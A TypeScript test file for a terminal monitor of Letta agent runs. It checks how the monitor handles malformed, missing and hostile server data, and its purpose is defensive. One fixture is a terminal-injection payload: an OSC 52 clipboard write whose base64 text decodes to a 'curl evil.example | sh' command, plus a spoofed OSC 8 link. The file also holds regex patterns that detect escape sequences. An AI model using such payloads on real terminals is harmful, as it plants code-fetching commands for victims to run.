// Issue 3, "Bad input": malformed chunks, unknown types and events, a chunk of several megabytes,
// invalid UTF-8 and hostile text. The monitor keeps going, shows what it could, counts what it could
// not read, and nothing from the server can drive the terminal.

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { LettaClient } from '../../src/api/client.js';
import { type DemoServer, type DemoServerOptions } from '../../src/demo/server.js';
import type { AppState } from '../../src/store/types.js';
import { renderApp } from '../ui/helpers.js';
import { CONTROL_CHARS, collectStrings, startPipeline, visibleEntries, waitFor, demoServer } from './pipeline.js';

function demo(options: DemoServerOptions = {}): Promise<DemoServer> {
  return demoServer({ seed: 51, tokenIntervalMs: 5, ...options });
}

async function followOnce(url: string, runId: string) {
  const p = startPipeline(url);
  try {
    p.select(runId);
    return await p.waitDone(runId);
  } finally {
    await p.stop();
  }
}

const withoutUnknown = (entries: ReturnType<typeof visibleEntries>) => entries.filter((e) => e.kind !== 'unknown');

describe('unreadable chunks', () => {
  it('malformed JSON, non-objects, unknown types and unknown named events: skipped, counted, the rest complete', async () => {
    const s = await demo();
    const runId = s.addRun({ steps: 3, background: true });
    const clean = await followOnce(s.url, runId);
    s.setFaults({ malformedRate: 0.5 });
    const detail = await followOnce(s.url, runId);
    expect(detail.mode).toBe('stream');
    expect(detail.error).toBeNull();
    expect(withoutUnknown(visibleEntries(detail))).toEqual(visibleEntries(clean));
    expect(detail.transcript.unparsedCount).toBeGreaterThan(0);
    expect(clean.transcript.unparsedCount).toBe(0);
    // With a live run too, while the chunks arrive.
    const live = s.addRun({ steps: 2, background: true, live: true });
    const liveDetail = await followOnce(s.url, live);
    expect(liveDetail.transcript.unparsedCount).toBeGreaterThan(0);
    expect(liveDetail.transcript.entries.at(-1)?.kind).toBe('stop');
  });

  it('a chunk of several megabytes', async () => {
    const s = await demo();
    const text = `${'Lorem ipsum dolor sit amet, ✓ naïve. '.repeat(100_000)}end.`;
    expect(Buffer.byteLength(text)).toBeGreaterThan(3_000_000);
    const runId = s.addRun({ steps: 1, background: true, streamTokens: false, text, createdAt: new Date() });
    const detail = await followOnce(s.url, runId);
    expect(detail.mode).toBe('stream');
    const answer = detail.transcript.entries.find((e) => e.kind === 'assistant');
    expect(answer?.text.length).toBe(text.length);
    expect(answer?.text).toBe(text);
    expect(detail.transcript.unparsedCount).toBe(0);
  }, 20_000);

  it('invalid UTF-8 becomes U+FFFD; nothing is lost or doubled, even split across packets', async () => {
    const s = await demo();
    const runId = s.addRun({ steps: 2, background: true });
    const clean = visibleEntries(await followOnce(s.url, runId));
    s.setFaults({ invalidUtf8: true, splitWrites: true });
    const detail = await followOnce(s.url, runId);
    expect(detail.mode).toBe('stream');
    const entries = visibleEntries(detail);
    expect(entries.map((e) => [e.kind, e.key])).toEqual(clean.map((e) => [e.kind, e.key]));
    expect(entries.some((e) => e.text.includes('\uFFFD') || e.toolArgs?.includes('\uFFFD'))).toBe(true);
    // Take the replacement characters out and the text is the clean text.
    const strip = (v?: string) => v?.replace(/\uFFFD/g, '');
    expect(entries.map((e) => ({ ...e, text: strip(e.text), toolArgs: strip(e.toolArgs) }))).toEqual(clean);
  });
});

describe('missing and null fields everywhere', () => {
  it('runs, messages, steps and usage with holes: shown as far as they go, the rest counted', async () => {
    const runId = 'run-11111111-1111-4111-8111-111111111111';
    const bare = 'run-22222222-2222-4222-8222-222222222222';
    const routes: Record<string, unknown> = {
      '/v1/runs/': [
        { id: runId, status: 'completed', created_at: null, completed_at: null, agent_id: null, background: null, metadata: null, stop_reason: null, total_duration_ns: null },
        { id: bare },
        null,
        42,
        'run-not-an-object',
        { status: 'running' },
      ],
      [`/v1/runs/${runId}`]: { id: runId, status: 'completed', background: null, metadata: null },
      [`/v1/runs/${runId}/messages`]: [
        { message_type: 'assistant_message' },
        { message_type: 'assistant_message', id: null, otid: null, content: null },
        { message_type: 'reasoning_message', otid: 'o-1', reasoning: 'thinking' },
        { message_type: 'tool_call_message', otid: 'o-2', tool_calls: null, tool_call: null },
        { message_type: 'tool_call_message', otid: 'o-3', tool_calls: [{ name: null, arguments: null, tool_call_id: null }] },
        { message_type: 'tool_return_message', otid: 'o-4' },
        { message_type: 'approval_response_message', otid: 'o-5', approvals: null },
        { message_type: 'user_message', otid: 'o-6', content: [null, 3, { type: 'image' }, { text: 'hi' }] },
        { message_type: 'assistant_message', otid: 'o-7', content: 'the answer' },
        {},
        null,
        'text',
      ],
      [`/v1/runs/${runId}/steps`]: [{ id: 'step-1' }, null, { id: 'step-2', model: null, prompt_tokens: null, error_data: null, status: null }, 7],
      [`/v1/runs/${runId}/usage`]: {},
    };
    const raw: Server = createServer((req, res) => {
      const path = (req.url ?? '').split('?')[0];
      const body = routes[path];
      res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body ?? { detail: 'Not Found' }));
    });
    await new Promise<void>((resolve) => raw.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(raw.address() as AddressInfo).port}`;
    try {
      const pipeline = startPipeline(url, { poller: { intervalMs: 50 } });
      const p = pipeline;
      await waitFor(() => p.state().health.lastOkAt !== null, 'a poll');
      expect(p.state().health.error).toBeNull();
      expect(p.state().runs.order.sort()).toEqual([runId, bare].sort());
      expect(p.state().runs.byId[bare].status).toBe('unknown');
      p.select(runId);
      const detail = await p.waitDone(runId);
      expect(detail.error).toBeNull();
      expect(detail.mode).toBe('static');
      expect(detail.transcript.entries.find((e) => e.text === 'the answer')?.kind).toBe('assistant');
      expect(detail.transcript.entries.find((e) => e.text === 'thinking')?.kind).toBe('reasoning');
      // {}, null and 'text' are not messages: counted where the user sees it, not shown.
      expect(detail.transcript.unparsedCount).toBe(3);
      await waitFor(() => p.detailOf(runId)?.steps?.length === 2, 'the steps');
      expect(p.detailOf(runId)?.usage).not.toBeNull();
      // The list keeps polling through it all.
      const polls = p.poller!.polls;
      await waitFor(() => p.poller!.polls > polls, 'another poll');
    } finally {
      await new Promise((resolve) => raw.close(resolve));
    }
  });
});

// ---- hostile text -------------------------------------------------------------------------------

/** Fields that are internal to the merge (an unterminated escape held back), never rendered. */
const INTERNAL = /\.(rawTail|rawArgsTail)$/;

function unsafeStrings(state: AppState): Array<[string, string]> {
  return collectStrings({ runs: state.runs, agents: state.agents, details: state.details, health: state.health })
    .filter(([path, text]) => !INTERNAL.test(path) && CONTROL_CHARS.test(text))
    .map(([path, text]) => [path, JSON.stringify(text).slice(0, 120)]);
}

/** The frame without Ink's own colours: what is left must contain no escape or control at all. */
function unsafeInFrame(frame: string): string[] {
  const plain = frame.replace(/\x1b\[[0-9;]*m/g, '');
  const found: string[] = [];
  for (const [name, pattern] of [
    ['OSC 52 clipboard', /\x1b\]52|\x9d52/],
    ['OSC 8 link', /\x1b\]8|\x9d8/],
    ['OSC', /\x1b\]|\x9d/],
    ['CSI', /\x1b\[|\x9b/],
    ['DCS', /\x1bP|\x90/],
    ['ESC', /\x1b/],
    ['BEL', /\x07/],
    ['C1', /[\x80-\x9f]/],
    ['CR', /\r/],
  ] as const) {
    if (pattern.test(plain)) found.push(name);
  }
  return found;
}

describe('hostile text from the server', () => {
  it('never reaches the store or the screen as escape sequences', async () => {
    const s = await demo({ historyRuns: 10, faults: { hostile: true } });
    // One of each ending, made while hostile, streamed live and replayed.
    const ids = [
      s.addRun({ steps: 3, outcome: 'end_turn', background: true }),
      s.addRun({ steps: 2, outcome: 'error', background: true }),
      s.addRun({ steps: 2, outcome: 'requires_approval', background: false }),
      s.addRun({ steps: 2, outcome: 'cancelled', background: true, live: true }),
    ];
    const pipeline = startPipeline(s.url, { poller: { intervalMs: 40 } });
    const p = pipeline;
    await waitFor(() => p.state().runs.order.length === 14 && Object.keys(p.state().agents).length > 0, 'runs and agent names');
    for (const id of [...ids, ...p.state().runs.order.slice(0, 10)]) {
      p.select(id);
      await p.waitDone(id, 10_000);
    }
    const state = p.state();
    // The payload really was hostile, and some of it made it into the store as text.
    const transcripts = Object.values(state.details).flatMap((d) => d.transcript.entries);
    expect(transcripts.length).toBeGreaterThan(20);
    expect(transcripts.some((e) => /ALERT|click here|C1-CSI|owned terminal/.test(e.text + (e.toolArgs ?? '')))).toBe(true);
    expect(Object.values(state.runs.byId).some((r) => r.errorText)).toBe(true);
    expect(unsafeStrings(state)).toEqual([]);

    // Render the real screen over that store, one selected run after another.
    const app = renderApp(p.store);
    try {
      for (const id of ids) {
        p.select(id);
        const frame = await waitFor(() => {
          const f = app.lastFrame() ?? '';
          return f.includes(`Messages · ${id.slice(4, 12)}`) && /ALERT|click here|C1-CSI|owned terminal|Sign|\w{4,}/.test(f) ? f : null;
        }, `the frame of ${id}`);
        expect(unsafeInFrame(frame), frame).toEqual([]);
      }
      expect(app.frames.join('\n')).toMatch(/ALERT|click here|C1-CSI|owned terminal/);
      for (const frame of app.frames) expect(unsafeInFrame(frame)).toEqual([]);
    } finally {
      app.unmount();
    }
  }, 30_000);

  it('error bodies with escape sequences are cleaned before they become error sentences', async () => {
    const hostile = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u009b31mboom\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\';
    const raw: Server = createServer((req, res) => {
      const status = req.url?.includes('/stream') ? 410 : 500;
      res.writeHead(status, { 'content-type': 'application/json', 'retry-after': '1' });
      res.end(JSON.stringify({ detail: hostile }));
    });
    await new Promise<void>((resolve) => raw.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(raw.address() as AddressInfo).port}`;
    const client = new LettaClient({ baseUrl: url });
    try {
      const list = await client.listRuns().catch((err: unknown) => err as Error & { detail: string });
      expect(list.message).toMatch(/boom/);
      expect(CONTROL_CHARS.test(list.message)).toBe(false);
      expect(CONTROL_CHARS.test(list.detail)).toBe(false);
      const stream = await (async () => {
        for await (const chunk of client.streamRun('run-00000000-0000-4000-8000-000000000000')) void chunk;
      })().catch((err: unknown) => err as Error);
      expect(stream.message).toMatch(/410/);
      expect(CONTROL_CHARS.test(stream.message)).toBe(false);
      const pipeline = startPipeline(url, { poller: { intervalMs: 1000 } });
      const p = pipeline;
      await waitFor(() => p.state().health.error, 'the health error');
      expect(unsafeStrings(p.state())).toEqual([]);
    } finally {
      await client.destroy();
      await new Promise((resolve) => raw.close(resolve));
    }
  });
});
